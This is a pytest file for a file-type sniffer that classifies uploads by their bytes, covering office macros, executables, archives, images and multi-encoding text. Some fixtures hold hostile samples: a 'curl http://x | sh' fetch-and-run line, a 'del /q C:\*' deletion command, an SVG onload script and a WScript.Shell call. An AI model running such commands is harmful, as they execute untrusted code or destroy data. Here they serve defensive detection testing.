"""relay.model.sniff: the kind of a file comes from its bytes, containers are looked into."""

from __future__ import annotations

import gzip
import io
import struct
import zipfile

import docx
import pytest
from pypdf import PdfWriter

from relay.model import sniff

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504


def _pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _docx() -> bytes:
    document = docx.Document()
    document.add_paragraph("Rechnung")
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def _zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def _with_member(base: bytes, name: str, data: bytes, content_types: bytes | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            payload = src.read(info)
            if content_types is not None and info.filename == "[Content_Types].xml":
                payload = content_types
            dst.writestr(info, payload)
        dst.writestr(name, data)
    return out.getvalue()


def _docm() -> bytes:
    base = _docx()
    with zipfile.ZipFile(io.BytesIO(base)) as archive:
        types = archive.read("[Content_Types].xml").replace(
            b"officedocument.wordprocessingml.document.main+xml",
            b"ms-word.document.macroEnabled.main+xml",
        )
    return _with_member(base, "word/vbaProject.bin", OLE, types)


def _exe() -> bytes:
    header = bytearray(b"MZ" + b"\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 50)
    header[0x3C:0x40] = struct.pack("<I", 64)
    return bytes(header) + b"PE\x00\x00" + b"\x4c\x01" + b"\x00" * 200


def _ole(*names: str) -> bytes:
    return OLE + b"".join(n.encode("utf-16-le") + b"\x00\x00" for n in names) + b"\x00" * 512


PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10\x00\x00\x00\x10\x08\x02\x00\x00\x00"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\x00" * 32
GIF = b"GIF89a\x10\x00\x10\x00\x80\x00\x00" + b"\x00" * 32
GERMAN = "Sehr geehrte Kundin, anbei die Größentabelle für Ihre Bestellung. Grüße aus München."
JAPANESE = "いつもご利用ありがとうございます。取扱説明書を添付いたします。"

CASES: list[tuple[str, bytes, str]] = [
    ("pdf", _pdf(), "pdf"),
    ("pdf after junk", b"\r\n" * 10 + b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n", "pdf"),
    ("docx", _docx(), "docx"),
    ("docm by content type", _docm(), "docm"),
    ("docx with vbaProject", _with_member(_docx(), "word/vbaProject.bin", OLE), "docm"),
    (
        "docx with OLE package",
        _with_member(_docx(), "word/embeddings/oleObject1.bin", OLE),
        "docx-objects",
    ),
    ("xlsx", _zip({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<w/>"}), "xlsx"),
    ("xlsm", _zip({"xl/workbook.xml": b"<w/>", "xl/vbaProject.bin": OLE}), "xlsm"),
    ("pptx", _zip({"ppt/presentation.xml": b"<p/>"}), "pptx"),
    ("zip", _zip({"setup.exe": _exe()}), "zip"),
    ("epub", _zip({"mimetype": b"application/epub+zip", "content.opf": b"<x/>"}), "epub"),
    ("odt", _zip({"mimetype": b"application/vnd.oasis.opendocument.text"}), "odf"),
    ("jar", _zip({"META-INF/MANIFEST.MF": b"Main-Class: X\n", "X.class": b"\xca\xfe"}), "jar"),
    ("broken zip", b"PK\x03\x04" + b"\x00" * 40, "zip"),
    ("text then zip", b"hello there\n" + _zip({"a.exe": _exe()}), "zip"),
    ("doc", _ole("Root Entry", "WordDocument", "1Table"), "doc"),
    ("doc with macros", _ole("Root Entry", "WordDocument", "Macros", "VBA"), "docm"),
    ("xls", _ole("Root Entry", "Workbook"), "xls"),
    ("xls with macros", _ole("Root Entry", "Workbook", "_VBA_PROJECT_CUR"), "xlsm"),
    ("ppt", _ole("Root Entry", "PowerPoint Document"), "ppt"),
    (
        "password-protected docx",
        _ole("Root Entry", "EncryptionInfo", "EncryptedPackage"),
        "encrypted-office",
    ),
    ("exe", _exe(), "exe"),
    ("elf", b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 120, "elf"),
    ("rar", b"Rar!\x1a\x07\x00" + b"\x00" * 32, "rar"),
    ("7z", b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 32, "7z"),
    ("gzip", gzip.compress(b"hello" * 100), "gzip"),
    ("png", PNG, "png"),
    ("jpeg", JPEG, "jpeg"),
    ("gif", GIF, "gif"),
    ("html", b"<!DOCTYPE html>\n<html><body>Hi</body></html>", "html"),
    ("html fragment", b"\n  <div><a href='https://x.example'>x</a></div>", "html"),
    ("html after comment", b"<!-- saved from url -->\n<html>", "html"),
    ("html with bom", b"\xef\xbb\xbf<html><body>Hi</body></html>", "html"),
    ("svg", b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"/>', "svg"),
    ("svg bare", b"<svg onload='alert(1)'></svg>", "svg"),
    ("shell script", b"#!/bin/sh\ncurl http://x | sh\n", "script"),
    ("batch script", b"@echo off\r\ndel /q C:\\*\r\n", "script"),
    ("vbscript", b"On Error Resume Next\r\nSet o = CreateObject(\"WScript.Shell\")", "script"),
    ("empty", b"", "empty"),
    ("ascii text", b"Dear customer, here are the care instructions.\n", "text"),
    ("utf-8 text", GERMAN.encode("utf-8"), "text"),
    ("utf-8 text with bom", b"\xef\xbb\xbf" + GERMAN.encode("utf-8"), "text"),
    ("latin-1 text", GERMAN.encode("latin-1"), "text"),
    ("cp1252 text", "Prix: 20 € – livraison incluse, merci.".encode("cp1252"), "text"),
    ("shift_jis text", JAPANESE.encode("shift_jis"), "text"),
    ("euc-jp text", JAPANESE.encode("euc-jp"), "text"),
    ("iso-2022-jp text", JAPANESE.encode("iso-2022-jp"), "text"),
    ("utf-16 text with bom", GERMAN.encode("utf-16"), "text"),
    ("utf-16-le text without bom", GERMAN.encode("utf-16-le"), "text"),
    ("utf-16-be text without bom", GERMAN.encode("utf-16-be"), "text"),
    ("utf-16 japanese", JAPANESE.encode("utf-16"), "text"),
    ("text starting MZ", b"MZ-Anleitung: Schritt 1, Schritt 2, Schritt 3.", "text"),
    ("text starting BM", b"BMW manual for the roof box, page 2.", "text"),
    ("binary noise", bytes(range(256)) * 4, "unknown"),
]


@pytest.mark.parametrize(("data", "kind"), [c[1:] for c in CASES], ids=[c[0] for c in CASES])
def test_sniff_table(data: bytes, kind: str) -> None:
    assert sniff.sniff(data) == kind


def test_sniff_never_raises_on_truncated_containers() -> None:
    whole = _docx()
    for cut in (10, 100, len(whole) // 2, len(whole) - 5):
        assert sniff.sniff(whole[:cut]) in {"zip", "docx", "unknown"}


def test_zip_with_huge_central_directory_is_not_opened() -> None:
    members = {f"f{i}.txt": b"" for i in range(6000)}
    data = _zip(members)
    assert sniff.zip_entry_count(data) == 6000
    assert sniff.sniff(data) == "zip"


@pytest.mark.parametrize(
    ("kind", "name", "ok"),
    [
        ("pdf", "Rechnung.pdf", True),
        ("pdf", "RECHNUNG.PDF", True),
        ("pdf", "invoice", True),
        ("exe", "invoice.pdf", False),
        ("zip", "manual.docx", False),
        ("docx", "manual.docx", True),
        ("docx", "manual.doc", False),
        ("jpeg", "photo.jpeg", True),
        ("jpeg", "photo.jpg", True),
        ("png", "photo.jpg", False),
        ("text", "notes.txt", True),
        ("text", "notes.csv", True),
        ("text", "run.bat", False),
        ("empty", "notes.txt", True),
        ("pdf", "invoice.pdf.", True),
        ("pdf", "folder/invoice.pdf", True),
    ],
)
def test_extension_matches(kind: str, name: str, ok: bool) -> None:
    assert sniff.extension_matches(kind, name) is ok


def test_text_encoding_detects_bomless_utf16() -> None:
    assert sniff.text_encoding(GERMAN.encode("utf-16-le")) == "utf-16-le"
    assert sniff.text_encoding(GERMAN.encode("utf-16-be")) == "utf-16-be"
    assert sniff.text_encoding(GERMAN.encode("utf-8")) is None
